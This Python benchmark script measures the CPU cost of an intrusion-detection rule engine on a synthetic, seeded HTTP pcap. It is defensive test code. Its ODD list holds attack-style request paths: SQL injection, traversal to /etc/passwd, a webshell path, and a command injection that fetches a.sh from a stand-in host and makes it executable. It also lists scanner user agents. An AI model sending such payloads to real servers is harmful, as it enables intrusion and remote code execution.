"""Detection cost on traffic whose bytes are really inspected (issue 10).

``bench/pcap_throughput.py`` spends most of its bytes in 2 MB bodies past the body limit;
here every object is small or medium (200 B .. 60 KB, under libhtp's body limits), most
connections are short (one request) and some are keep-alive, so detection sees nearly
every byte and many pure ACKs, SYNs and FINs.

1. Generates (scapy, once, cached in bench/.cache/) the pcap, seeded.
2. Runs ``python -m ruleengine run -r PCAP -S RULES`` as a child process of each given
   repository (``--repo``, default this one; pass main's checkout too for before/after on
   the same machine in the same run) with 10 rules, the ET Open HTTP subset and the
   whole ET Open file, and prints CPU seconds (user+sys of the child), packets/s of CPU,
   peak RSS, and the alert set (sid, pcap_cnt) digest, so runs can be compared.

Usage: python bench/detect_realistic.py [--conns 3000] [--repo DIR ...] [--sets 10,http,all]
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import subprocess
import sys
import tempfile
import time
from collections.abc import Sequence
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(REPO))
sys.path.insert(0, str(REPO / "bench"))

from pcap_throughput import (  # noqa: E402
    ET_RULES,
    HOSTS,
    MSS,
    PATHS,
    USER_AGENTS,
    _Connection,
    http_rules,
)

CACHE = REPO / "bench" / ".cache"
SIZES = [200, 600, 1500, 4000, 9000, 20000, 60000]
# requests ET Open has rules for (scanners, traversal, injection, probes): 5 % of them
ODD = ["/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
       "/cgi-bin/../../../../etc/passwd", "/.git/config", "/phpmyadmin/index.php",
       "/wp-content/plugins/revslider/temp/update_extract/revslider/shell.php",
       "/?cmd=wget%20http://x/a.sh%3Bchmod%20777%20a.sh", "/shell?cat+/etc/passwd"]
ODD_UA = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "Python-urllib/3.11",
          "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Go-http-client/1.1"]


def _exchange(rng: random.Random) -> tuple[bytes, bytes]:
    path, host, ua = rng.choice(PATHS), rng.choice(HOSTS), rng.choice(USER_AGENTS)
    if rng.random() < 0.05:
        path, ua = rng.choice(ODD), rng.choice(ODD_UA)
    request = (f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {ua}\r\n"
               "Accept: */*\r\n\r\n").encode()
    size = rng.choice(SIZES)
    words = b"<p>lorem ipsum dolor sit amet, consectetur adipiscing elit</p>\n"
    body = (words * (size // len(words) + 1))[:size]
    head = "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nContent-Type: text/html\r\n"
    if rng.random() < 0.2:
        chunks = b"".join(f"{len(body[i:i + 4096]):x}\r\n".encode() + body[i:i + 4096]
                          + b"\r\n" for i in range(0, len(body), 4096))
        return request, (head + "Transfer-Encoding: chunked\r\n\r\n").encode() + chunks \
            + b"0\r\n\r\n"
    return request, (head + f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def generate(path: Path, conns: int, seed: int = 10) -> None:
    from scapy.utils import PcapWriter  # type: ignore[import-untyped]

    rng = random.Random(seed)
    clock = [1_760_000_000.0]
    tmp = path.with_suffix(".tmp")
    writer = PcapWriter(str(tmp), linktype=1, sync=False)
    writer.write_header(None)
    for conv in range(1, conns + 1):
        c = _Connection(writer, conv, rng, clock)
        # a server outside HOME_NET (documentation range; the pcap is only a file), so
        # $HOME_NET -> $EXTERNAL_NET rules apply as on a sensor's uplink
        c.server = f"203.0.113.{conv % 200 + 1}"
        c.emit(True, "S")
        c.emit(False, "SA")
        c.emit(True, "A")
        # 70 % one request per connection (Connection: close), else keep-alive
        for _ in range(1 if rng.random() < 0.7 else rng.randint(2, 6)):
            request, response = _exchange(rng)
            c.emit(True, "PA", request)
            for n, i in enumerate(range(0, len(response), MSS)):
                c.emit(False, "PA" if i + MSS >= len(response) else "A", response[i:i + MSS])
                if n % 2:
                    c.emit(True, "A")
            c.emit(True, "A")
        c.emit(False, "FA")
        c.emit(True, "FA")
        c.emit(False, "A")
    writer.close()
    tmp.rename(path)


def _rules(kind: str) -> Path:
    """The rule file of a set. The subsets get a fixed name in bench/.cache: the rule
    cache is keyed by file name and content, so they load warm as the whole ET file does
    (a fresh temp name made every subset run a cold parse)."""
    if kind == "all":
        return ET_RULES
    made = http_rules(10 if kind == "10" else None)
    path = CACHE / f"rules-{kind}.rules"
    text = made.read_text()
    made.unlink()
    if not path.exists() or path.read_text() != text:
        path.write_text(text)
    return path


def run_engine(repo: Path, pcap: Path, rules: Path, extra: Sequence[str] = (),
               profile: Path | None = None) -> dict[str, object]:
    """``python -m ruleengine run -r PCAP -S RULES [extra]`` as a child of ``repo``: CPU of
    the child's process tree (user+sys), wall, peak RSS, the alert set's digest, the decoded
    packets and the child's stderr (for the summary lines some benches read)."""
    logdir = Path(tempfile.mkdtemp(prefix="bench-"))
    prof = ["-m", "cProfile", "-o", str(profile)] if profile else []
    cmd = [sys.executable, *prof, "-m", "ruleengine", "run", "-r", str(pcap), "-S", str(rules),
           "-l", str(logdir), *extra]
    t0 = time.perf_counter()
    proc = subprocess.Popen(cmd, cwd=repo, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    _, status, usage = os.wait4(proc.pid, 0)
    wall = time.perf_counter() - t0
    err = proc.stderr.read().decode(errors="replace") if proc.stderr else ""
    if status != 0:
        print(err[-2000:], file=sys.stderr)
    alerts = set()
    packets = 0
    with open(logdir / "eve.json", encoding="utf-8") as fh:
        for line in fh:
            ev = json.loads(line)
            if ev.get("event_type") == "alert":
                alerts.add((ev["alert"]["signature_id"], ev.get("pcap_cnt")))
            elif ev.get("event_type") == "stats":
                packets = ev["stats"].get("decoder", {}).get("pkts", packets)
    digest = hashlib.sha1(json.dumps(sorted(alerts, key=str)).encode()).hexdigest()[:12]
    return {"cpu": usage.ru_utime + usage.ru_stime, "wall": wall,
            "rss_mb": usage.ru_maxrss / 1024, "alerts": len(alerts), "digest": digest,
            "packets": packets, "sids": sorted({s for s, _ in alerts}), "stderr": err}


def run_one(repo: Path, pcap: Path, rules: Path, profile: Path | None = None
            ) -> dict[str, object]:
    return run_engine(repo, pcap, rules, ["-k", "none"], profile)


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--conns", type=int, default=3000)
    parser.add_argument("--repo", action="append", type=Path, help="checkout to run (repeat)")
    parser.add_argument("--sets", default="10,http,all")
    parser.add_argument("--profile", type=Path, help="cProfile each run to PROFILE.<n>")
    args = parser.parse_args()
    CACHE.mkdir(parents=True, exist_ok=True)
    pcap = CACHE / f"realistic-{args.conns}.pcap"
    if not pcap.exists():
        print(f"generating {pcap} (once) ...", flush=True)
        generate(pcap, args.conns)
    print(f"pcap: {pcap} ({pcap.stat().st_size / 1e6:.1f} MB)")
    for kind in args.sets.split(","):
        rules = _rules(kind)
        for n, repo in enumerate(args.repo or [REPO]):
            prof = Path(f"{args.profile}.{kind}.{n}") if args.profile else None
            r = run_one(repo.resolve(), pcap, rules, prof)
            pps = float(r["packets"]) / float(r["cpu"]) if r["cpu"] else 0.0  # type: ignore[arg-type]
            print(f"rules={kind:5s} repo={repo} cpu={r['cpu']:.2f}s wall={r['wall']:.2f}s "
                  f"pkts={r['packets']} pkt/s(cpu)={pps:.0f} rss={r['rss_mb']:.0f}MB "
                  f"alerts={r['alerts']} digest={r['digest']}", flush=True)
            print(f"  sids: {r['sids']}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
